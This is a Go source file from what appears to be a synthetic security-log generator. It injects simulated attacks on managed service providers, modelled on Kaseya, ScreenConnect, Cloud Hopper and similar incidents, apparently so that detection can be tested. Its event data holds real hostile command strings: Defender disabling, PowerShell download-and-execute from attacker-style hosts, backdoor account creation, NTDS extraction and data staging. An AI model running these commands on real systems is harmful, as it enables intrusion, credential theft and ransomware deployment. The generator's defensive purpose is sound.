package simulate

import (
	"encoding/base64"
	"math/rand/v2"
	"strconv"
	"strings"
	"unicode/utf16"
)

// Scenario describes an attack the generator can inject.
type Scenario struct {
	// Name is what Config.Scenarios and --scenario take.
	Name string
	// Mimics is the real incident or technique the scenario is modelled on.
	Mimics string
	// Description says what the scenario injects.
	Description string
}

type scenarioDef struct {
	Scenario
	inject func(g *Generator, r *rand.Rand, at int64, sc uint8)
}

var scenarioDefs = []scenarioDef{
	{Scenario{"kaseya-style", "Kaseya VSA / REvil, July 2021 (CVE-2021-30116)",
		"The kaseya-vsa console account vsa-admin of one MSP runs a procedure on every tenant of that MSP within about four minutes: " +
			"script.run whose command disables Microsoft Defender (Set-MpPreference -DisableRealtimeMonitoring ...) and decodes a payload with a copy of certutil, " +
			"and software.push of an unsigned agent.crt (unknown sha256, no signer, no change ticket, every host of the tenant), " +
			"followed by unsigned agent.exe installs on hosts. No console login precedes it (authentication bypass)."},
		injectKaseya},
	{Scenario{"stolen-credential", "Target 2013 (HVAC vendor credentials); APT10 Cloud Hopper; everyday MSP account takeover",
		"A day technician's account logs in to the remote-access console from a country and hosting ASN that technician never uses, without MFA " +
			"(actor.mfa false, auth_method password), then opens sessions into up to 14 tenants (at least 10 with the default 10 tenants per MSP) within 30 minutes, " +
			"using privileged stored credentials in three of them and running reconnaissance in one."},
		injectStolenCredential},
	{Scenario{"screenconnect-takeover", "ConnectWise ScreenConnect SlashAndGrab, February 2024 (CVE-2024-1709)",
		"A brand-new administrator account (support-XXXX) is created on an MSP's screenconnect console through the setup wizard from an attacker address (account.created), " +
			"logs in without MFA, and within the hour opens sessions into several tenants and runs 'net user ... /add' and encoded PowerShell on their hosts."},
		injectScreenConnect},
	{Scenario{"tampered-update", "SolarWinds SUNBURST 2020, 3CX 2023, ASUS ShadowHammer 2019",
		"A package name and version that benign traffic pushes every day (same name, version and legitimate signer, signed: true) arrives with a different sha256: " +
			"a day technician pushes it under a change ticket to several tenants and hosts install it. Only the hash gives it away."},
		injectTampered},
	{Scenario{"shadow-rmm", "Ransomware affiliates installing AnyDesk/Atera/Splashtop as backdoors (CISA AA23-025A)",
		"A remote-access tool the MSP never uses (anydesk, or another one) is installed on a tenant's host (software.install, properly signed by its vendor) " +
			"and then used for sessions into that tenant from an unknown user id and a hosting ASN."},
		injectShadowRMM},
	{Scenario{"brute-force", "Password spraying against RMM consoles; MFA fatigue (Uber 2022)",
		"About 50 auth.failure events against a few technician names and a non-existent admin account from one foreign hosting address within 12 minutes, " +
			"then an auth.login success for one of the technicians from the same address after repeated MFA push prompts, and a session into a tenant."},
		injectBruteForce},
	{Scenario{"dormant-account", "Accounts of departed staff left enabled (CISA AA22-074A and countless MSP incidents)",
		"The account of a technician who left (never active in benign traffic) logs in from the MSP's own country with MFA, registers a new MFA device " +
			"(account.changed), and opens sessions into four tenants at night, using a privileged credential."},
		injectDormant},
	{Scenario{"cloud-hopper", "APT10 Operation Cloud Hopper, 2016-2018",
		"Low and slow: the MSP admin's account logs in with MFA from its usual country but a hosting ASN at night, then over about three hours opens long sessions into eight tenants, " +
			"uses privileged domain credentials in each and runs reconnaissance, NTDS extraction and password-protected RAR staging commands."},
		injectCloudHopper},
	{Scenario{"rogue-technician", "Persistence through new MSP console accounts (CISA AA22-131A; Scattered Spider, CISA AA23-320A)",
		"The MSP admin's account signs in to the RMM console with MFA (a replayed session) from a hosting network in the MSP's own country and creates a technician account " +
			"with a plausible name (account.created); the new account enrols an MFA device and, 70 to 100 minutes later, signs in with MFA from another hosting address " +
			"and opens sessions into five tenants' servers, using a privileged credential in two."},
		injectRogueTechnician},
	{Scenario{"mfa-removed", "Help-desk MFA reset then account takeover (Scattered Spider / MGM 2023, CISA AA23-320A)",
		"The admin, from the usual office, resets a day technician's MFA (account.changed, change mfa_reset) after a social-engineered call; 20 to 40 minutes later the technician's account " +
			"signs in to the RMM console without MFA from a hosting network in the MSP's country and pushes a vendor-signed remote-access tool (AnyDesk or another the MSP does not use) " +
			"to every Windows host of six tenants within 20 minutes, without a change ticket."},
		injectMFARemoved},
	{Scenario{"api-key-abuse", "Stolen RMM/PSA API keys (CISA AA22-131A; the 2024 ConnectWise and SimpleHelp intrusions)",
		"The MSP's PSA integration account (psa-sync@..., role service, API key, no MFA as always for it) authenticates from a foreign hosting address and, within ten minutes, " +
			"runs a PowerShell download-and-execute (-ExecutionPolicy Bypass, Invoke-WebRequest -OutFile, then run) on every Windows host of eight tenants through the API, without a ticket."},
		injectAPIKeyAbuse},
	{Scenario{"election-off-hours", "Insider or hijacked technician on election infrastructure (CISA election security advisories; issue 11's missed attack)",
		"A day technician, from the usual home network with MFA, opens a session at about 03:10 tenant local time into an election-tagged server (a critical server when no tenant is an election office) " +
			"and runs a PowerShell download-and-execute (-ExecutionPolicy Bypass, Invoke-WebRequest ... -OutFile, then the file) on it."},
		injectElectionOffHours},
	{Scenario{"impossible-travel", "Adversary-in-the-middle session theft (Evilginx-style phishing of RMM console users; CISA AA23-320A)",
		"A day technician signs in as usual; 20 to 45 minutes later the same account signs in again with MFA satisfied (a stolen session) from a foreign country and hosting network, " +
			"and opens sessions into three of the technician's tenants, running reconnaissance in one."},
		injectImpossibleTravel},
}

// Scenarios lists the attacks the generator can inject.
func Scenarios() []Scenario {
	out := make([]Scenario, len(scenarioDefs))
	for i := range scenarioDefs {
		out[i] = scenarioDefs[i].Scenario
	}
	return out
}

func lookupScenario(name string) *scenarioDef {
	for i := range scenarioDefs {
		if scenarioDefs[i].Name == name {
			return &scenarioDefs[i]
		}
	}
	return nil
}

func scenarioIndex(d *scenarioDef) int {
	for i := range scenarioDefs {
		if &scenarioDefs[i] == d {
			return i
		}
	}
	return -1
}

// attacker is who drives an attack: a pre-rendered actor and where from.
type attacker struct {
	ip, country string
	asn         int64
}

func newAttacker(r *rand.Rand, avoid []string) attacker {
	var country string
	for {
		country = attackCountries[r.IntN(len(attackCountries))]
		ok := true
		for _, c := range avoid {
			ok = ok && c != country
		}
		if ok {
			break
		}
	}
	return attacker{ip: "192.0.2." + strconv.Itoa(1+r.IntN(254)), country: country, asn: attackASNs[r.IntN(len(attackASNs))]}
}

func (a attacker) actor(user, role string) string {
	if role == "" {
		return obj("user", user, "ip", a.ip, "country", a.country, "asn", a.asn)
	}
	return obj("user", user, "ip", a.ip, "country", a.country, "asn", a.asn, "role", role)
}

func randSHA(r *rand.Rand) string {
	var b []byte
	for range 4 {
		b = appendHex(b, r.Uint64(), 16)
	}
	return string(b)
}

func mspWithTool(g *Generator, tool uint8) int16 {
	for i := range g.w.msps {
		if g.w.msps[i].tools[tool] {
			return int16(i)
		}
	}
	return 0
}

func (g *Generator) attack(kind uint8, mi int16, at int64, sc uint8) event {
	ev := newEvent(kind, mi, at)
	ev.scen = sc
	return ev
}

func perm16(r *rand.Rand, n int) []int16 {
	p := make([]int16, n)
	for i, v := range r.Perm(n) {
		p[i] = int16(v)
	}
	return p
}

func injectKaseya(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := mspWithTool(g, toolKaseya)
	m := &g.w.msps[mi]
	tool := toolKaseya
	if !m.tools[tool] {
		tool = m.spec.rmm // no Kaseya MSP (Conventions.Tools): the same procedure through another RMM
	}
	actor := &extra{actor: obj("user", "vsa-admin", "role", "admin")}
	script := &extra{actor: actor.actor, script: obj("name", "Kaseya VSA Agent Hot-fix", "sha256", randSHA(r), "interpreter", "cmd",
		"command", `C:\WINDOWS\system32\cmd.exe /c ping 127.0.0.1 -n 4979 > nul & powershell.exe -ExecutionPolicy Bypass -Command "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIntrusionPreventionSystem $true -DisableIOAVProtection $true -DisableScriptScanning $true -EnableControlledFolderAccess Disabled -EnableNetworkProtection AuditMode -Force -MAPSReporting Disabled -SubmitSamplesConsent NeverSend" & copy /Y C:\Windows\System32\certutil.exe C:\Windows\cert.exe & echo %RANDOM% >> C:\Windows\cert.exe & C:\Windows\cert.exe -decode c:\kworking\agent.crt c:\kworking\agent.exe & del /q /f c:\kworking\agent.crt C:\Windows\cert.exe & c:\kworking\agent.exe`)}
	push := &extra{actor: actor.actor, pkg: pkgFrag("agent.crt", "kworking update", randSHA(r), "", false)}
	install := &extra{pkg: pkgFrag("agent.exe", "1.0", randSHA(r), "", false), url: `file:///c:/kworking/agent.exe`}
	order := perm16(r, len(m.tenants))
	step := 4 * minute / int64(len(order))
	for i, ti := range order {
		tn := &m.tenants[ti]
		base := at + int64(i)*step
		if i > 0 {
			base += r.Int64N(step)
		}
		ev := g.attack(kScriptRun, mi, base, sc)
		ev.tool, ev.tenant, ev.count, ev.x = tool, ti, int32(len(tn.hosts)), script
		g.push(ev)
		ev.kind, ev.at, ev.x = kSoftwarePush, base+int64(2+r.IntN(5))*second, push
		g.push(ev)
		for j, hi := range tn.windows {
			if j == 8 {
				break
			}
			in := g.attack(kSoftwareInstall, mi, base+int64(60+r.IntN(180))*second, sc)
			in.tool, in.tenant, in.host, in.x = tool, ti, hi, install
			g.push(in)
		}
	}
}

func injectStolenCredential(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := int16(r.IntN(len(g.w.msps)))
	m := &g.w.msps[mi]
	tc := &m.techs[m.day[r.IntN(len(m.day))]]
	a := newAttacker(r, tc.countries)
	who := &extra{actor: a.actor(tc.user, tc.role)}
	login := &extra{actor: who.actor, authMethod: "password"}

	ev := g.attack(kAuthLogin, mi, at, sc)
	ev.tool, ev.mfa, ev.x = m.spec.remote, 0, login
	g.push(ev)
	ev.tool, ev.at = m.spec.rmm, at+int64(30+r.IntN(30))*second
	g.push(ev)

	order := perm16(r, len(m.tenants))
	if len(order) > 14 {
		order = order[:14]
	}
	step := 25 * minute / int64(len(order))
	for i, ti := range order {
		tn := &m.tenants[ti]
		t := at + 2*minute + int64(i)*step + r.Int64N(step/2+1)
		dur := int64(60 + r.IntN(300))
		s := g.attack(kSessionStart, mi, t, sc)
		s.tool, s.tenant, s.sess, s.x = tn.remote, ti, r.Uint64()|1, who
		s.host = tn.windows[len(tn.windows)-1] // servers come last
		g.push(s)
		if i < 3 {
			c := s
			c.kind, c.at, c.cred, c.priv = kCredentialUse, t+int64(15+r.IntN(30))*second, 0, true
			g.push(c)
		}
		if i == 1 {
			c := s
			c.kind, c.at, c.sess = kScriptRun, t+50*second, 0
			c.x = &extra{actor: who.actor, script: obj("name", "cmd", "sha256", randSHA(r), "interpreter", "cmd",
				"command", `cmd.exe /c whoami /all & net group "Domain Admins" /domain & nltest /domain_trusts`)}
			g.push(c)
		}
		e := s
		e.kind, e.at, e.dur = kSessionEnd, t+dur*second, int32(dur)
		g.push(e)
	}
}

// encodedCommand is PowerShell's -EncodedCommand form: base64 of UTF-16LE.
func encodedCommand(cmd string) string {
	u := utf16.Encode([]rune(cmd))
	b := make([]byte, 0, 2*len(u))
	for _, c := range u {
		b = append(b, byte(c), byte(c>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func injectScreenConnect(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := mspWithTool(g, toolScreenConnect)
	m := &g.w.msps[mi]
	tool := toolScreenConnect
	if !m.tools[tool] {
		tool = m.spec.remote
	}
	user := "support-" + string(appendHex(nil, r.Uint64(), 4))
	a := newAttacker(r, nil)
	who := &extra{actor: a.actor(user, "administrator")}

	ev := g.attack(kAccountCreated, mi, at, sc)
	ev.tool = tool
	ev.x = &extra{actor: who.actor, attrs: obj("account", user, "role", "administrator", "created_via", "/SetupWizard.aspx/")}
	g.push(ev)
	ev = g.attack(kAuthLogin, mi, at+int64(60+r.IntN(60))*second, sc)
	ev.tool, ev.mfa, ev.x = tool, 0, &extra{actor: who.actor, authMethod: "password"}
	g.push(ev)

	addUser := obj("name", "Run Command", "sha256", randSHA(r), "interpreter", "cmd",
		"command", `cmd.exe /c net user helpdesk$ Spr1ng2024! /add && net localgroup administrators helpdesk$ /add`)
	enc := obj("name", "Run Command", "sha256", randSHA(r), "interpreter", "powershell",
		"command", "powershell.exe -nop -w hidden -enc "+encodedCommand(`IEX (New-Object Net.WebClient).DownloadString('http://`+a.ip+`/a.ps1')`))
	order := perm16(r, len(m.tenants))
	n := min(len(order), 6)
	for i, ti := range order[:n] {
		tn := &m.tenants[ti]
		t := at + 5*minute + int64(i)*8*minute + r.Int64N(3*minute)
		s := g.attack(kSessionStart, mi, t, sc)
		s.tool, s.tenant, s.sess, s.x = tool, ti, r.Uint64()|1, who
		s.host = tn.windows[r.IntN(len(tn.windows))]
		g.push(s)
		c := s
		c.kind, c.at, c.sess = kScriptRun, t+int64(30+r.IntN(60))*second, 0
		c.x = &extra{actor: who.actor, script: addUser}
		g.push(c)
		if i%2 == 0 {
			c.at += int64(20+r.IntN(40)) * second
			c.x = &extra{actor: who.actor, script: enc}
			g.push(c)
		}
		dur := int64(180 + r.IntN(300))
		e := s
		e.kind, e.at, e.dur = kSessionEnd, t+dur*second, int32(dur)
		g.push(e)
	}
}

func injectTampered(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := int16(r.IntN(len(g.w.msps)))
	m := &g.w.msps[mi]
	good := &g.w.pkgs[g.w.winPkgs[r.IntN(len(g.w.winPkgs))]]
	bad := pkgFrag(good.name, good.version, fakeSHA("tampered", good.name, good.version), good.signer, true)
	ti := m.day[r.IntN(len(m.day))]
	m.ticketSeq++
	order := perm16(r, len(m.tenants))
	n := min(len(order), 5)
	for i, tenant := range order[:n] {
		tn := &m.tenants[tenant]
		t := at + int64(i)*4*minute
		if i > 0 {
			t += r.Int64N(2 * minute)
		}
		count := min(len(tn.windows), 12)
		ev := g.attack(kSoftwarePush, mi, t, sc)
		ev.tool, ev.actor, ev.tenant, ev.count, ev.ticket = m.spec.rmm, ti, tenant, int32(count), m.ticketSeq
		ev.x = &extra{pkg: bad}
		g.push(ev)
		for j := 0; j < min(count, 6); j++ {
			in := g.attack(kSoftwareInstall, mi, t+int64(2+r.IntN(20))*minute, sc)
			in.tool, in.tenant, in.host = m.spec.rmm, tenant, tn.windows[j]
			in.x = &extra{pkg: bad}
			g.push(in)
		}
	}
}

func injectShadowRMM(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := int16(r.IntN(len(g.w.msps)))
	m := &g.w.msps[mi]
	tool := toolAnyDesk
	for _, t := range []uint8{toolAnyDesk, toolAtera, toolSplashtop, toolTeamViewer, toolNinjaOne, toolScreenConnect} {
		if !m.tools[t] {
			tool = t
			break
		}
	}
	tenant := int16(r.IntN(len(m.tenants)))
	tn := &m.tenants[tenant]
	h1 := tn.windows[r.IntN(len(tn.windows))]
	ti := tools[tool]
	in := g.attack(kSoftwareInstall, mi, at, sc)
	in.tool, in.tenant, in.host = m.spec.rmm, tenant, h1
	in.x = &extra{pkg: pkgFrag(ti.agent, ti.version, fakeSHA(ti.agent, ti.version), ti.signer, true), url: ti.url}
	g.push(in)

	a := newAttacker(r, nil)
	who := &extra{actor: a.actor(strconv.FormatInt(1_000_000_000+r.Int64N(9_000_000_000), 10), "")}
	t := at + int64(3+r.IntN(5))*minute
	for i := range 3 {
		s := g.attack(kSessionStart, mi, t, sc)
		s.tool, s.tenant, s.sess, s.x = tool, tenant, r.Uint64()|1, who
		s.host = h1
		if i == 2 {
			s.host = tn.windows[len(tn.windows)-1]
		}
		g.push(s)
		dur := int64(600 + r.IntN(2400))
		e := s
		e.kind, e.at, e.dur = kSessionEnd, t+dur*second, int32(dur)
		g.push(e)
		t += dur*second + int64(5+r.IntN(30))*minute
	}
}

func injectBruteForce(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := int16(r.IntN(len(g.w.msps)))
	m := &g.w.msps[mi]
	a := newAttacker(r, nil)
	victims := []int16{m.day[r.IntN(len(m.day))], m.day[r.IntN(len(m.day))], m.admin}
	names := []string{"admin@" + m.spec.domain}
	for _, v := range victims {
		names = append(names, m.techs[v].user)
	}
	actors := make([]*extra, len(names))
	for i, n := range names {
		actors[i] = &extra{actor: a.actor(n, "")}
	}
	n := 45 + r.IntN(15)
	t := at
	for i := range n {
		ev := g.attack(kAuthFailure, mi, t, sc)
		ev.tool, ev.fail, ev.x = m.spec.remote, true, actors[i%len(actors)]
		if i%len(actors) == 0 {
			ev.x = &extra{actor: actors[0].actor, reason: "unknown user"}
		}
		g.push(ev)
		t += int64(5+r.IntN(20)) * second
	}
	tc := &m.techs[victims[0]]
	who := a.actor(tc.user, tc.role)
	ev := g.attack(kAuthLogin, mi, t+int64(30+r.IntN(60))*second, sc)
	ev.tool, ev.mfa = m.spec.remote, 1
	ev.x = &extra{actor: who, authMethod: "password+push", attrs: obj("mfa_prompts", "9")}
	g.push(ev)
	tenant := tc.tenants[r.IntN(len(tc.tenants))]
	tn := &m.tenants[tenant]
	s := g.attack(kSessionStart, mi, ev.at+2*minute, sc)
	s.tool, s.tenant, s.sess, s.host, s.x = tn.remote, tenant, r.Uint64()|1, tn.windows[0], &extra{actor: who}
	g.push(s)
	e := s
	e.kind, e.at, e.dur = kSessionEnd, s.at+900*second, 900
	g.push(e)
}

func injectDormant(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := int16(r.IntN(len(g.w.msps)))
	m := &g.w.msps[mi]
	ti := m.dormant
	tc := &m.techs[ti]
	ev := g.attack(kAuthLogin, mi, at, sc)
	ev.tool, ev.actor, ev.mfa, ev.x = m.spec.remote, ti, 1, &extra{authMethod: "password+totp"}
	g.push(ev)
	ch := g.attack(kAccountChanged, mi, at+int64(40+r.IntN(40))*second, sc)
	ch.tool, ch.actor = m.spec.remote, ti
	ch.x = &extra{attrs: obj("account", tc.user, "change", "mfa_device_added")}
	g.push(ch)
	order := perm16(r, len(m.tenants))
	for i, tenant := range order[:min(4, len(order))] {
		tn := &m.tenants[tenant]
		t := at + 5*minute + int64(i)*12*minute + r.Int64N(4*minute)
		s := g.attack(kSessionStart, mi, t, sc)
		s.tool, s.actor, s.tenant, s.sess = tn.remote, ti, tenant, r.Uint64()|1
		s.host = tn.windows[len(tn.windows)-1]
		g.push(s)
		if i == 1 {
			c := s
			c.kind, c.at, c.cred, c.priv = kCredentialUse, t+30*second, 0, true
			g.push(c)
		}
		dur := int64(300 + r.IntN(900))
		e := s
		e.kind, e.at, e.dur = kSessionEnd, t+dur*second, int32(dur)
		g.push(e)
	}
}

func injectCloudHopper(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := int16(r.IntN(len(g.w.msps)))
	m := &g.w.msps[mi]
	tc := &m.techs[m.admin]
	a := newAttacker(r, nil)
	a.country = m.spec.country // same country, hosting network
	who := a.actor(tc.user, tc.role)
	ev := g.attack(kAuthLogin, mi, at, sc)
	ev.tool, ev.mfa, ev.x = m.spec.remote, 1, &extra{actor: who, authMethod: tools[m.spec.remote].authMethod}
	g.push(ev)
	commands := []string{
		`cmd.exe /c net group "Domain Admins" /domain & nltest /dclist: & quser`,
		`ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ntds" q q`,
		`C:\Windows\Temp\rar.exe a -r -m5 -hpIloveyou1 C:\Windows\Temp\tmp.rar \\fs01\share\finance`,
	}
	order := perm16(r, len(m.tenants))
	for i, tenant := range order[:min(8, len(order))] {
		tn := &m.tenants[tenant]
		t := at + 3*minute + int64(i)*20*minute + r.Int64N(5*minute)
		dur := int64(1800 + r.IntN(1800))
		s := g.attack(kSessionStart, mi, t, sc)
		s.tool, s.tenant, s.sess, s.x = tn.remote, tenant, r.Uint64()|1, &extra{actor: who}
		s.host = tn.windows[len(tn.windows)-1]
		g.push(s)
		c := s
		c.kind, c.at, c.cred, c.priv = kCredentialUse, t+int64(30+r.IntN(60))*second, 1, true
		g.push(c)
		for j, cmd := range commands {
			x := c
			x.kind, x.cred, x.sess = kScriptRun, -1, 0
			x.at = t + int64(2+j*6+r.IntN(4))*minute
			x.x = &extra{actor: who, script: obj("name", "cmd", "sha256", fakeSHA("hopper", cmd), "interpreter", "cmd", "command", cmd)}
			g.push(x)
		}
		e := s
		e.kind, e.at, e.dur, e.cred = kSessionEnd, t+dur*second, int32(dur), -1
		g.push(e)
	}
}

// attackerIn is an attacker on a hosting network in the given country (a
// VPS rented near the victim, so that the country alone gives nothing away).
func attackerIn(r *rand.Rand, country string) attacker {
	a := newAttacker(r, nil)
	a.country = country
	return a
}

func injectRogueTechnician(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := int16(r.IntN(len(g.w.msps)))
	m := &g.w.msps[mi]
	admin := &m.techs[m.admin]
	a := attackerIn(r, m.spec.country)
	who := a.actor(admin.user, admin.role)
	ev := g.attack(kAuthLogin, mi, at, sc)
	ev.tool, ev.mfa, ev.x = m.spec.rmm, 1, &extra{actor: who, authMethod: tools[m.spec.rmm].authMethod}
	g.push(ev)

	domain := admin.user[strings.IndexByte(admin.user, '@')+1:]
	user := "kmorgan@" + domain // a plausible colleague nobody hired
	c := g.attack(kAccountCreated, mi, at+int64(3+r.IntN(4))*minute, sc)
	c.tool = m.spec.rmm
	c.x = &extra{actor: who, attrs: obj("account", user, "role", "technician", "created_via", "console")}
	g.push(c)

	b := newAttacker(r, nil)
	b.country = m.spec.country
	newWho := b.actor(user, "technician")
	ch := g.attack(kAccountChanged, mi, c.at+int64(5+r.IntN(10))*minute, sc)
	ch.tool, ch.x = m.spec.rmm, &extra{actor: newWho, attrs: obj("account", user, "change", "mfa_device_added")}
	g.push(ch)

	t := c.at + int64(70+r.IntN(30))*minute
	login := g.attack(kAuthLogin, mi, t, sc)
	login.tool, login.mfa, login.x = m.spec.remote, 1, &extra{actor: newWho, authMethod: tools[m.spec.remote].authMethod}
	g.push(login)
	order := perm16(r, len(m.tenants))
	for i, tenant := range order[:min(5, len(order))] {
		tn := &m.tenants[tenant]
		st := t + 3*minute + int64(i)*9*minute + r.Int64N(3*minute)
		s := g.attack(kSessionStart, mi, st, sc)
		s.tool, s.tenant, s.sess, s.x = tn.remote, tenant, r.Uint64()|1, &extra{actor: newWho}
		s.host = tn.windows[len(tn.windows)-1]
		g.push(s)
		if i < 2 {
			cu := s
			cu.kind, cu.at, cu.sess, cu.cred, cu.priv = kCredentialUse, st+int64(30+r.IntN(60))*second, 0, 0, true
			g.push(cu)
		}
		dur := int64(400 + r.IntN(600))
		e := s
		e.kind, e.at, e.dur = kSessionEnd, st+dur*second, int32(dur)
		g.push(e)
	}
}

// remoteToolNotUsedBy is a remote-access tool MSP m does not use.
func remoteToolNotUsedBy(m *msp) uint8 {
	for _, t := range []uint8{toolAnyDesk, toolSplashtop, toolTeamViewer, toolScreenConnect, toolAtera} {
		if !m.tools[t] {
			return t
		}
	}
	return toolAnyDesk
}

func injectMFARemoved(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := int16(r.IntN(len(g.w.msps)))
	m := &g.w.msps[mi]
	ti := m.day[r.IntN(len(m.day))]
	tc := &m.techs[ti]
	// The reset itself is the admin's own, from where the admin is that
	// day: the help desk was fooled, not hacked.
	ch := g.attack(kAccountChanged, mi, at, sc)
	ch.tool, ch.actor, ch.loc = m.spec.rmm, m.admin, g.techLoc(mi, m.admin, at)
	ch.x = &extra{attrs: obj("account", tc.user, "change", "mfa_reset")}
	g.push(ch)

	a := attackerIn(r, m.spec.country)
	who := a.actor(tc.user, tc.role)
	t := at + int64(20+r.IntN(20))*minute
	login := g.attack(kAuthLogin, mi, t, sc)
	login.tool, login.mfa, login.x = m.spec.rmm, 0, &extra{actor: who, authMethod: "password"}
	g.push(login)

	tool := tools[remoteToolNotUsedBy(m)]
	pkg := pkgFrag(tool.agent, tool.version, fakeSHA(tool.agent, tool.version), tool.signer, true)
	order := perm16(r, len(m.tenants))
	for i, tenant := range order[:min(6, len(order))] {
		tn := &m.tenants[tenant]
		pt := t + 2*minute + int64(i)*3*minute + r.Int64N(minute)
		p := g.attack(kSoftwarePush, mi, pt, sc)
		p.tool, p.tenant, p.count = m.spec.rmm, tenant, int32(len(tn.windows))
		p.x = &extra{actor: who, pkg: pkg}
		g.push(p)
		for j, hi := range tn.windows {
			if j == 6 {
				break
			}
			in := g.attack(kSoftwareInstall, mi, pt+int64(1+r.IntN(10))*minute, sc)
			in.tool, in.tenant, in.host, in.x = m.spec.rmm, tenant, hi, &extra{pkg: pkg, url: tool.url}
			g.push(in)
		}
	}
}

// downloadExec is a PowerShell download-and-execute of url into path.
func downloadExec(url, path string) string {
	return `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri '` + url + `' -OutFile '` + path + `' -UseBasicParsing; & '` + path + `'"`
}

func injectAPIKeyAbuse(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := int16(r.IntN(len(g.w.msps)))
	m := &g.w.msps[mi]
	svc := m.techs[m.svc].user
	user := "psa-sync@" + svc[strings.IndexByte(svc, '@')+1:]
	a := newAttacker(r, []string{m.spec.country})
	who := a.actor(user, "service")
	login := g.attack(kAuthLogin, mi, at, sc)
	login.tool, login.mfa, login.x = m.spec.rmm, 0, &extra{actor: who, authMethod: "api_key"}
	g.push(login)
	script := &extra{actor: who, script: obj("name", "Connectivity Check", "sha256", randSHA(r), "interpreter", "powershell",
		"command", downloadExec("http://"+a.ip+"/cc.ps1", `$env:TEMP\cc.ps1`))}
	order := perm16(r, len(m.tenants))
	n := min(8, len(order))
	for i, tenant := range order[:n] {
		tn := &m.tenants[tenant]
		ev := g.attack(kScriptRun, mi, at+int64(1+i*9/n)*minute+r.Int64N(50*second), sc)
		ev.tool, ev.tenant, ev.count, ev.x = m.spec.rmm, tenant, int32(len(tn.windows)), script
		g.push(ev)
	}
}

func injectElectionOffHours(g *Generator, r *rand.Rand, at int64, sc uint8) {
	// An election office's server, else any tenant's critical server.
	mi, tenant, hi := int16(r.IntN(len(g.w.msps))), int16(-1), int16(-1)
	for k := range g.w.msps {
		m := &g.w.msps[(int(mi)+k)%len(g.w.msps)]
		for ti := range m.tenants {
			if m.tenants[ti].election {
				mi, tenant = int16((int(mi)+k)%len(g.w.msps)), int16(ti)
				break
			}
		}
		if tenant >= 0 {
			break
		}
	}
	m := &g.w.msps[mi]
	if tenant < 0 {
		tenant = int16(r.IntN(len(m.tenants)))
	}
	tn := &m.tenants[tenant]
	for i := len(tn.hosts) - 1; i >= 0; i-- {
		if tn.hosts[i].server && tn.hosts[i].windows {
			hi = int16(i)
			break
		}
	}
	if hi < 0 {
		hi = tn.windows[0]
	}
	// A technician of that tenant, from home (the second location).
	ti := m.admin
	for _, d := range m.day {
		if contains16(m.techs[d].tenants, tenant) {
			ti = d
			break
		}
	}
	loc := uint8(0)
	if len(m.techs[ti].locs) > 1 {
		loc = 1
	}
	t := nextLocal(at+5*minute, int64(tn.tzHours)*3600, 3, 10) - 4*minute
	login := g.attack(kAuthLogin, mi, t, sc)
	login.tool, login.actor, login.loc, login.mfa, login.x = tn.remote, ti, loc, 1, &loginExtras[tn.remote]
	g.push(login)
	s := g.attack(kSessionStart, mi, t+int64(2+r.IntN(2))*minute, sc)
	s.tool, s.actor, s.loc, s.tenant, s.host, s.sess = tn.remote, ti, loc, tenant, hi, r.Uint64()|1
	g.push(s)
	x := s
	x.kind, x.sess, x.at = kScriptRun, 0, s.at+int64(2+r.IntN(3))*minute
	x.x = &extra{script: obj("name", "Run Command", "sha256", randSHA(r), "interpreter", "powershell",
		"command", downloadExec("https://"+string(appendHex(nil, r.Uint64(), 8))+".trycloudflare.com/u.ps1", `C:\Windows\Temp\u.ps1`))}
	g.push(x)
	e := s
	e.kind, e.at, e.dur = kSessionEnd, s.at+1200*second, 1200
	g.push(e)
}

func injectImpossibleTravel(g *Generator, r *rand.Rand, at int64, sc uint8) {
	mi := int16(r.IntN(len(g.w.msps)))
	m := &g.w.msps[mi]
	ti := m.day[r.IntN(len(m.day))]
	tc := &m.techs[ti]
	// The technician's own sign-in, as any morning: benign (no scenario).
	own := newEvent(kAuthLogin, mi, at)
	own.tool, own.actor, own.loc, own.mfa, own.x = m.spec.rmm, ti, g.techLoc(mi, ti, at), 1, &loginExtras[m.spec.rmm]
	g.push(own)

	a := newAttacker(r, tc.countries)
	who := a.actor(tc.user, tc.role)
	t := at + int64(20+r.IntN(25))*minute
	login := g.attack(kAuthLogin, mi, t, sc)
	login.tool, login.mfa, login.x = m.spec.rmm, 1, &extra{actor: who, authMethod: tools[m.spec.rmm].authMethod}
	g.push(login)
	for i := range min(3, len(tc.tenants)) {
		tenant := tc.tenants[i]
		tn := &m.tenants[tenant]
		st := t + int64(2+i*7)*minute + r.Int64N(2*minute)
		s := g.attack(kSessionStart, mi, st, sc)
		s.tool, s.tenant, s.sess, s.x = tn.remote, tenant, r.Uint64()|1, &extra{actor: who}
		s.host = tn.windows[len(tn.windows)-1]
		g.push(s)
		if i == 0 {
			x := s
			x.kind, x.sess, x.at = kScriptRun, 0, st+int64(60+r.IntN(60))*second
			x.x = &extra{actor: who, script: obj("name", "cmd", "sha256", randSHA(r), "interpreter", "cmd",
				"command", `cmd.exe /c whoami /groups & net group "Domain Admins" /domain & nltest /dclist:`)}
			g.push(x)
		}
		dur := int64(300 + r.IntN(900))
		e := s
		e.kind, e.at, e.dur = kSessionEnd, st+dur*second, int32(dur)
		g.push(e)
	}
}
